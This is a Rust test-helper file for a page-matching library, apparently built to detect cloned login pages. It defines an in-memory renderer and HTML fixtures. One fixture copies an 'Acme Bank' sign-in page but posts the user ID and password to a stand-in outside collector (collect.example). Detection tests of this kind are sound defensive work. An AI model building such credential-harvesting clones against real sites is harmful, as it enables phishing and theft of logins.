//! Shared test helpers.

#![allow(dead_code)]

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use rs_pagematch::{Error, RenderedPage, Renderer, Result};

/// Serves fixed HTML per URL and records every visit.
#[derive(Debug, Clone, Default)]
pub struct MemoryRenderer {
    pages: HashMap<String, String>,
    pub visits: Arc<Mutex<Vec<String>>>,
}

impl MemoryRenderer {
    pub fn new<'a>(pages: impl IntoIterator<Item = (&'a str, &'a str)>) -> Self {
        Self {
            pages: pages
                .into_iter()
                .map(|(url, html)| (url.to_string(), html.to_string()))
                .collect(),
            visits: Arc::default(),
        }
    }

    pub fn visited(&self) -> Vec<String> {
        self.visits.lock().unwrap().clone()
    }
}

impl Renderer for MemoryRenderer {
    fn render(&mut self, url: &str) -> Result<RenderedPage> {
        self.visits.lock().unwrap().push(url.to_string());
        let html = self.pages.get(url).ok_or_else(|| Error::Navigation {
            url: url.to_string(),
            reason: "net::ERR_NAME_NOT_RESOLVED".to_string(),
        })?;
        Ok(RenderedPage::from_html(url, html.as_str()))
    }
}

pub const BRAND_PAGE: &str = r#"
<html><head><title>Acme Bank</title></head>
<body>
  <header><img src="/logo.png" alt="Acme Bank"><nav><a href="/">Home</a><a href="/help">Help</a></nav></header>
  <main>
    <h1>Sign in to Acme Bank</h1>
    <form action="/login" method="post">
      <input type="text" name="user" placeholder="User ID">
      <input type="password" name="pw" placeholder="Password">
      <button type="submit">Sign in</button>
    </form>
  </main>
  <footer><p>&copy; Acme Bank</p></footer>
</body></html>
"#;

/// Same layout, credentials posted elsewhere.
pub const CLONE_PAGE: &str = r#"
<html><head><title>Acme Bank</title></head>
<body>
  <header><img src="/logo.png" alt="Acme Bank"><nav><a href="/">Home</a><a href="/help">Help</a></nav></header>
  <main>
    <h1>Sign in to Acme Bank</h1>
    <form action="https://collect.example/p.php" method="post">
      <input type="text" name="user" placeholder="User ID">
      <input type="password" name="pw" placeholder="Password">
      <button type="submit">Sign in</button>
    </form>
  </main>
  <footer><p>&copy; Acme Bank</p></footer>
</body></html>
"#;

pub const UNRELATED_PAGE: &str = r#"
<html><body>
  <div class="post"><h2>Gardening tips</h2><p>Water early.</p></div>
</body></html>
"#;
